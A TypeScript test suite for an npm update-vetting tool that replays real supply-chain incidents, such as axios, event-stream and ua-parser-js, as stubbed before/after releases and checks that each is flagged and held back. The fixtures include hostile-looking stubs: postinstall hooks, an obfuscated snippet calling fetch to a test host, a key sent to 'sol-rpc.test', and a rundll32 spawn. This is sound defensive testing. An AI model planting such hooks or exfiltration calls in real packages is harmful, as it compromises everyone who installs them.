import assert from "node:assert/strict";
import { test } from "node:test";

import { AT } from "../support/attested-gull.ts";
import { TestSigstore } from "../support/sigstore.ts";
import { TestWorld } from "../support/world.ts";
import { offered } from "./offered.ts";

type Build = NonNullable<Parameters<TestSigstore["attestations"]>[1]>;

interface Release {
  readonly version: string;
  readonly scripts?: Readonly<Record<string, string>>;
  readonly files?: Readonly<Record<string, string>>;
  readonly dependencies?: Readonly<Record<string, string>>;
  readonly optionalDependencies?: Readonly<Record<string, string>>;
  readonly by?: string;
  /** Built so; nothing is attested where it is not stated. */
  readonly provenance?: Build;
}

/** What npm's registry showed. Names, versions and scripts are the real ones; the code is not. */
interface Incident {
  readonly id: string;
  readonly package: string;
  readonly before: Release;
  readonly after: Release;
  /** A package that came with it. */
  readonly brings?: Release & { readonly name: string };
  /** The package is itself what the config starts; without it a server depends on it. */
  readonly isServer?: true;
  /** What `update` says of it once it is older than the cooldown, the riskiest first. */
  readonly risks: readonly string[];
  /** What `update` writes where somebody accepts all that can be accepted by an option. */
  readonly moves: "never" | "with --allow-scripts" | "with --yes";
}

const BUILT: Build = {};
const CODE = { "index.js": "module.exports = () => 1;\n" };

const INCIDENTS: readonly Incident[] = [
  {
    // And axios-via-touchdesigner-mcp: an honest server whose range took it.
    id: "axios",
    package: "axios",
    before: { version: "1.14.0", by: "GitHub Actions", provenance: BUILT },
    after: { version: "1.14.1", by: "jasonsaayman", dependencies: { "plain-crypto-js": "^4.2.1" } },
    brings: {
      name: "plain-crypto-js",
      version: "4.2.1",
      scripts: { postinstall: "node setup.js" },
    },
    risks: [
      "install-script-added plain-crypto-js",
      "weaker-evidence axios",
      "publisher-changed axios",
      "new-package plain-crypto-js",
    ],
    moves: "never",
  },
  {
    id: "mastra-mcp",
    package: "@mastra/mcp",
    isServer: true,
    before: { version: "1.10.0", by: "GitHub Actions", provenance: BUILT },
    after: { version: "1.10.1", by: "ehindero", dependencies: { "easy-day-js": "^1.11.21" } },
    brings: { name: "easy-day-js", version: "1.11.21", scripts: { postinstall: "node setup.js" } },
    risks: [
      "install-script-added easy-day-js",
      "weaker-evidence @mastra/mcp",
      "publisher-changed @mastra/mcp",
      "new-package easy-day-js",
    ],
    moves: "never",
  },
  {
    id: "chalk-debug",
    package: "chalk",
    before: { version: "5.6.0" },
    after: {
      version: "5.6.1",
      files: {
        "index.js": `module.exports = () => 1;\n${"const _0x112fa8=_0x180f;".repeat(60)}fetch("https://wallet.test");\n`,
      },
    },
    risks: ["suspicious-code chalk"],
    moves: "with --yes",
  },
  {
    id: "shai-hulud-2",
    package: "posthog-node",
    before: { version: "5.13.2" },
    after: { version: "5.13.3", scripts: { preinstall: "node setup_bun.js" } },
    risks: ["install-script-added posthog-node"],
    moves: "with --allow-scripts",
  },
  {
    id: "canisterworm",
    package: "@emilgroup/document-sdk",
    before: { version: "1.43.5" },
    after: { version: "1.43.6", scripts: { postinstall: "node index.js" } },
    risks: ["install-script-added @emilgroup/document-sdk"],
    moves: "with --allow-scripts",
  },
  {
    id: "bitwarden-cli",
    package: "@bitwarden/cli",
    before: { version: "2026.3.0" },
    after: { version: "2026.4.0", scripts: { preinstall: "node bw_setup.js" } },
    risks: ["install-script-added @bitwarden/cli"],
    moves: "with --allow-scripts",
  },
  {
    // The identity is the right one: the release job itself was poisoned.
    id: "tanstack",
    package: "@tanstack/history",
    before: { version: "1.161.6", provenance: BUILT },
    after: {
      version: "1.161.9",
      provenance: BUILT,
      optionalDependencies: { "@tanstack/setup": "github:tanstack/router#79ac49ee" },
      files: { "router_init.js": "x();".repeat(600_000) },
    },
    risks: ["outside-source @tanstack/history", "size-jump @tanstack/history"],
    moves: "with --yes",
  },
  {
    // The worm brought evidence where there had been none, of its own making.
    id: "antv",
    package: "@antv/g2",
    before: { version: "5.4.0" },
    after: {
      version: "5.4.1",
      scripts: { preinstall: "bun run index.js" },
      provenance: {
        repository: "https://github.com/else/where",
        repositoryId: "6666",
        ownerId: "7",
      },
    },
    risks: ["install-script-added @antv/g2"],
    moves: "with --allow-scripts",
  },
  {
    id: "node-ipc-2026",
    package: "node-ipc",
    before: { version: "12.0.0", by: "riaevangelist" },
    after: { version: "12.0.1", by: "atiertant", files: { "node-ipc.cjs": "steal();\n" } },
    risks: ["publisher-changed node-ipc"],
    moves: "with --yes",
  },
  {
    id: "colors-faker",
    package: "colors",
    before: { version: "1.4.0" },
    after: { version: "1.4.1", files: { "index.js": "for (;;) console.log('zalgo');\n" } },
    risks: [],
    moves: "with --yes",
  },
  {
    id: "event-stream",
    package: "event-stream",
    before: { version: "3.3.5", by: "dominictarr" },
    after: { version: "3.3.6", by: "right9ctrl", dependencies: { "flatmap-stream": "^0.1.0" } },
    brings: { name: "flatmap-stream", version: "0.1.0", by: "hugeglass" },
    risks: ["publisher-changed event-stream", "new-package flatmap-stream"],
    moves: "with --yes",
  },
  {
    id: "ua-parser-js",
    package: "ua-parser-js",
    before: { version: "0.7.28" },
    after: {
      version: "0.7.29",
      scripts: { preinstall: "start /B node preinstall.js & node preinstall.js" },
    },
    risks: ["install-script-added ua-parser-js"],
    moves: "with --allow-scripts",
  },
  {
    id: "eslint-scope",
    package: "eslint-scope",
    before: { version: "3.7.1" },
    after: { version: "3.7.2", scripts: { postinstall: "node ./lib/build.js" } },
    risks: ["install-script-added eslint-scope"],
    moves: "with --allow-scripts",
  },
  {
    id: "eslint-config-prettier",
    package: "eslint-config-prettier",
    before: { version: "10.1.5" },
    after: {
      version: "10.1.6",
      scripts: { install: "node install.js" },
      files: { "node-gyp.dll": "MZ", "install.js": "require('child_process').spawn('rundll32')\n" },
    },
    risks: [
      "install-script-added eslint-config-prettier",
      "native-code eslint-config-prettier",
      "suspicious-code eslint-config-prettier",
    ],
    moves: "with --allow-scripts",
  },
  {
    id: "solana-web3js",
    package: "@solana/web3.js",
    before: { version: "1.95.5" },
    after: {
      version: "1.95.6",
      files: { "index.js": "fetch('https://sol-rpc.test', { headers: { key } });\n" },
    },
    risks: ["suspicious-code @solana/web3.js"],
    moves: "with --yes",
  },
  {
    id: "rspack",
    package: "@rspack/core",
    before: { version: "1.1.6" },
    after: { version: "1.1.7", scripts: { postinstall: "node dist/util/support.js" } },
    risks: ["install-script-added @rspack/core"],
    moves: "with --allow-scripts",
  },
];

for (const incident of INCIDENTS) {
  test(`${incident.id}: what is installed fails, the update waits, then moves ${incident.moves}`, async () => {
    const { id, package: name, before, after, brings, isServer } = incident;
    const { world, server, publish } = await locked(incident);
    await using _ = world;
    const at = new Date(world.machine.now.getTime() - 3_600_000).toISOString();
    if (brings !== undefined) await publish(brings.name, brings, at);
    await publish(name, after, at);

    // The first hours: no update offers it, and where a start would fetch it that is an error.
    assert.equal((await offered(world)).outcome, "current");
    if (isServer !== true) {
      assert.equal((await world.asks()).exitCode, 0, "npx keeps a tree that still fits");
      world.removes(world.tree);
    }
    const { exitCode, servers } = await world.asks();
    const told = servers[0]?.findings.find(({ ruleId }) => ruleId === "unvetted-update");
    assert.equal(exitCode, 1);
    for (const { version } of [before, after])
      assert.ok(told?.message.includes(version) === true, id);

    // A machine on which it was installed.
    world.removes(world.tree);
    world.installs(`${server}@latest`);
    assert.equal((await world.verifies()).exitCode, 1);

    // Nobody noticed for as long as the cooldown lasts.
    world.waits(15);
    const { risks, packages } = await offered(world);
    assert.deepEqual(risks, incident.risks);
    assert.equal(await moves(world, server, packages), incident.moves);
  });
}

/** A server of Ada's that is, or depends on, the package before it happened. */
async function locked({ package: name, before, isServer }: Incident) {
  const sigstore = await TestSigstore.start();
  let registry: TestWorld["registry"] | null = null;
  const publish = async (published: string, release: Release, at: string): Promise<void> => {
    const { version, files = {}, by, provenance, ...manifest } = release;
    const spec = `${published}@${version}`;
    registry?.publish(
      { name: published, version, bin: "index.js", ...manifest },
      { ...CODE, ...files },
      { at, ...(by === undefined ? {} : { by }) },
    );
    if (provenance === undefined || registry === null) return;
    const { archive } = registry.published(spec);
    registry.attest(
      spec,
      await sigstore.attestations({ name: published, version, archive }, { at: AT, ...provenance }),
    );
  };
  const server = isServer === true ? name : "heron-mcp";
  const world = await TestWorld.start(async (fresh) => {
    ({ registry } = fresh);
    fresh.trusts(sigstore.trust(registry.key.trusted()));
    await publish(name, before, AT.toISOString());
    if (isServer !== true) {
      const dependencies = { [name]: `^${before.version}` };
      await publish(server, { version: "1.0.0", dependencies }, AT.toISOString());
    }
    await fresh.protects("heron", `${server}@latest`);
  });
  return { world, server, publish };
}

async function moves(
  world: TestWorld,
  server: string,
  allowScripts: readonly string[],
): Promise<Incident["moves"]> {
  const { revision } = world.lockfile(server);
  const hasMoved = (): boolean => world.lockfile(server).revision > revision;
  await world.updates({ isYes: true });
  if (hasMoved()) return "with --yes";
  await world.updates({ isYes: true, allowScripts });
  return hasMoved() ? "with --allow-scripts" : "never";
}
